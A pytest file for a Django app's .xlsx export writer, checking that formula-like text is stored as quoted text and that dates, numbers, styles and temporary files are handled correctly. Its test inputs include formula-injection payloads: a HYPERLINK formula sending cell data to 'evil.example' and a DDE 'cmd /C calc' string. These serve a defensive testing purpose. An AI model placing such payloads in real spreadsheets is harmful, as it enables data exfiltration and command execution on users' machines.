"""The .xlsx writer (core.xlsx): text is always text — never a formula, with Excel's quote prefix when a
spreadsheet would read it as one — dates formatted, numbers as numbers, widths and frozen panes, and a
temporary file a view can stream. Each test writes a real workbook and reads it back with openpyxl."""

import os
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from accounts.roles import Role
from core import xlsx
from core.xlsx import Style, as_number, batches, chinese_labels, to_temporary_file


def written(*rows, widths=(), freeze=None, title="表"):
    """The worksheet (read back) of a workbook with one sheet holding ``rows``."""

    def write(writer):
        sheet = writer.sheet(title, widths=widths, freeze=freeze)
        for row in rows:
            sheet.append(row)
        return len(rows)

    export = to_temporary_file(write)
    try:
        return load_workbook(export.file)[title]
    finally:
        export.file.close()


def cell_of(value):
    """The cell ``value`` comes out as."""
    return written([value])["A1"]


# --- text is text ---------------------------------------------------------------------------------

TEXTS = [
    pytest.param("=1+1", id="equals"),
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"详情")', id="hyperlink"),
    pytest.param("+86 13935800001", id="plus"),
    pytest.param("-1+1 孩子发烧", id="minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
    pytest.param("\t=1+1", id="tab"),
    pytest.param("王小雨", id="chinese"),
    pytest.param("0351", id="leading-zero"),
    pytest.param("1e5", id="number-like"),
    pytest.param("TRUE", id="boolean-like"),
    pytest.param("#N/A", id="error-like"),
    pytest.param("2025-03-01", id="date-like"),
]


@pytest.mark.parametrize("text", TEXTS)
def test_every_str_is_written_as_a_text_cell(text):
    assert cell_of(text).data_type == "s"


@pytest.mark.parametrize("text", TEXTS)
def test_text_reads_back_unchanged(text):
    assert cell_of(text).value == text


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_text_a_spreadsheet_would_read_as_a_formula_gets_the_quote_prefix(trigger):
    assert cell_of(trigger + "SUM(A1:A9)").quotePrefix is True


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\r"])
def test_formula_like_text_stays_a_text_cell(trigger):
    assert cell_of(trigger + "SUM(A1:A9)").data_type == "s"


@pytest.mark.parametrize("text", ["王小雨", "a=b", "13935800001", "备注：+1", " =1+1"])
def test_plain_text_gets_no_quote_prefix(text):
    assert cell_of(text).quotePrefix is False


def test_control_characters_are_dropped():
    assert cell_of("王\x00小\x07雨\x1f").value == "王小雨"


def test_line_breaks_and_tabs_inside_text_are_kept():
    assert cell_of("第一行\n第二行\t完").value == "第一行\n第二行\t完"


def test_a_formula_behind_control_characters_still_gets_the_quote_prefix():
    cell = cell_of("\x01\x02=SUM(A1)")
    assert (cell.value, cell.quotePrefix) == ("=SUM(A1)", True)


def test_is_formula_like_reads_the_first_character_only():
    assert [xlsx.is_formula_like(text) for text in ("=1", "1=1", "")] == [True, False, False]


# --- other values ---------------------------------------------------------------------------------

def test_a_date_gets_the_date_format():
    cell = cell_of(date(2028, 2, 29))
    assert (cell.value.date(), cell.number_format) == (date(2028, 2, 29), xlsx.DATE_FORMAT)


def test_a_datetime_gets_the_date_and_time_format():
    cell = cell_of(datetime(2026, 12, 31, 23, 59))
    assert (cell.value, cell.number_format) == (datetime(2026, 12, 31, 23, 59), xlsx.DATETIME_FORMAT)


def test_a_number_stays_a_number():
    cell = cell_of(42)
    assert (cell.value, cell.data_type) == (42, "n")


def test_a_decimal_is_written_as_a_number_through_as_number():
    cell = cell_of(as_number(Decimal("1234.56")))
    assert (cell.value, cell.data_type) == (1234.56, "n")


def test_as_number_turns_a_decimal_into_a_float():
    assert type(as_number(Decimal("0.5"))) is float


@pytest.mark.parametrize("value", [3, 2.5, "3", None, date(2027, 3, 1)])
def test_as_number_leaves_other_values_alone(value):
    assert as_number(value) is value


@pytest.mark.parametrize("value", [None, ""])
def test_an_empty_value_leaves_the_cell_empty(value):
    assert written([value, "右"])["A1"].value is None


def test_an_empty_styled_cell_keeps_its_style():
    sheet = to_temporary_file(lambda writer: (writer.sheet("表").append([None], style=xlsx.HEADER), 1)[1])
    assert load_workbook(sheet.file)["表"]["A1"].font.b is True


# --- rows, styles, widths, frozen panes -----------------------------------------------------------

def test_a_header_row_is_bold_and_filled():
    def write(writer):
        writer.sheet("表").header(["姓名", "村"])
        return 0

    cell = load_workbook(to_temporary_file(write).file)["表"]["B1"]
    assert (cell.value, cell.font.b, cell.fill.fgColor.rgb[-6:]) == ("村", True, "FDE7EF")


def test_each_cell_of_a_row_can_have_its_own_style():
    def write(writer):
        writer.sheet("表").append([0.25, 3], styles=[Style(number_format="0.0%"), None])
        return 1

    sheet = load_workbook(to_temporary_file(write).file)["表"]
    assert (sheet["A1"].number_format, sheet["B1"].number_format) == ("0.0%", "General")


def test_a_row_with_more_styles_than_values_is_refused():
    def write(writer):
        writer.sheet("表").append([1], styles=[None, None])
        return 1

    with pytest.raises(ValueError):
        to_temporary_file(write)


def test_a_sheet_counts_its_rows():
    counted = []

    def write(writer):
        sheet = writer.sheet("表")
        sheet.header(["a"])
        sheet.append([1])
        sheet.append([2])
        counted.append(sheet.rows)
        return 2

    to_temporary_file(write)
    assert counted == [3]


def test_columns_get_their_widths():
    sheet = written(["a", "b"], widths=(10, 22.5))
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (10, 22.5)


def test_the_pane_is_frozen_where_asked():
    assert written(["a"], ["b"], freeze="A2").freeze_panes == "A2"


def test_no_pane_is_frozen_unless_asked():
    assert written(["a"]).freeze_panes is None


def test_a_sheet_can_filter_its_columns():
    def write(writer):
        sheet = writer.sheet("表")
        sheet.header(["a", "b"])
        sheet.auto_filter("A1:B1")
        return 0

    assert load_workbook(to_temporary_file(write).file)["表"].auto_filter.ref == "A1:B1"


def test_rows_come_out_top_to_bottom():
    sheet = written(["一"], ["二"], ["三"])
    assert [row[0].value for row in sheet.iter_rows()] == ["一", "二", "三"]


# --- the temporary file ---------------------------------------------------------------------------

def test_to_temporary_file_rewinds_the_file_for_reading():
    export = to_temporary_file(lambda writer: (writer.sheet("表").append(["a"]), 1)[1])
    assert (export.file.tell(), export.file.read(2)) == (0, b"PK")


def test_to_temporary_file_reports_the_rows_written():
    assert to_temporary_file(lambda writer: (writer.sheet("表"), 17)[1]).rows == 17


def test_to_temporary_file_leaves_the_file_open_for_the_response():
    assert not to_temporary_file(lambda writer: (writer.sheet("表"), 0)[1]).file.closed


def test_closing_the_temporary_file_deletes_it():
    export = to_temporary_file(lambda writer: (writer.sheet("表"), 0)[1])
    export.file.close()
    assert not os.path.exists(export.file.name)


@pytest.fixture
def opened_files(monkeypatch):
    """The temporary files core.xlsx opens."""
    files = []
    real = xlsx.NamedTemporaryFile

    def recording(*args, **kwargs):
        files.append(real(*args, **kwargs))
        return files[-1]

    monkeypatch.setattr(xlsx, "NamedTemporaryFile", recording)
    return files


def fail(writer):
    # Fails before any row is written: only the file to_temporary_file opens is under test here.
    writer.sheet("表")
    raise RuntimeError("the query failed")


def test_to_temporary_file_passes_on_the_writers_error(opened_files):
    with pytest.raises(RuntimeError, match="the query failed"):
        to_temporary_file(fail)


def test_to_temporary_file_closes_the_file_when_the_writer_fails(opened_files):
    with pytest.raises(RuntimeError):
        to_temporary_file(fail)
    assert [(file.closed, os.path.exists(file.name)) for file in opened_files] == [(True, False)]


def test_to_temporary_file_closes_the_file_when_interrupted(opened_files):
    def interrupted(writer):
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        to_temporary_file(interrupted)
    assert opened_files[0].closed


# --- batches and labels ---------------------------------------------------------------------------

def test_batches_cut_items_into_lists_of_the_size_the_last_shorter():
    assert list(batches(range(7), 3)) == [[0, 1, 2], [3, 4, 5], [6]]


def test_batches_of_an_exact_multiple_end_without_an_empty_batch():
    assert list(batches(range(6), 3)) == [[0, 1, 2], [3, 4, 5]]


def test_batches_of_nothing_are_none():
    assert list(batches([], 3)) == []


def test_batches_read_an_iterator_once():
    assert list(batches(iter("abcde"), 2)) == [["a", "b"], ["c", "d"], ["e"]]


def test_batches_are_produced_lazily():
    def endless():
        n = 0
        while True:
            yield n
            n += 1

    assert next(batches(endless(), 2)) == [0, 1]


def test_choice_labels_are_chinese_whatever_the_language():
    with translation.override("en"):
        assert chinese_labels(Role.choices)[Role.VOLUNTEER] == "爱心妈妈"


@pytest.mark.parametrize(("text", "stored"), [("x\r\ny", "x\ny"), ("a\rb", "a\nb"), ("\r=1+1", "\n=1+1")])
def test_a_carriage_return_is_written_as_a_line_break(text, stored):
    assert cell_of(text).value == stored


def test_a_failed_export_leaves_none_of_its_rows_behind(tmp_path, monkeypatch):
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def fails_after_rows(writer):
        sheet = writer.sheet("表")
        for n in range(50):
            sheet.append([f"王小雨{n}", n])
        raise RuntimeError("the query failed")

    with pytest.raises(RuntimeError):
        to_temporary_file(fails_after_rows)
    assert list(tmp_path.iterdir()) == []
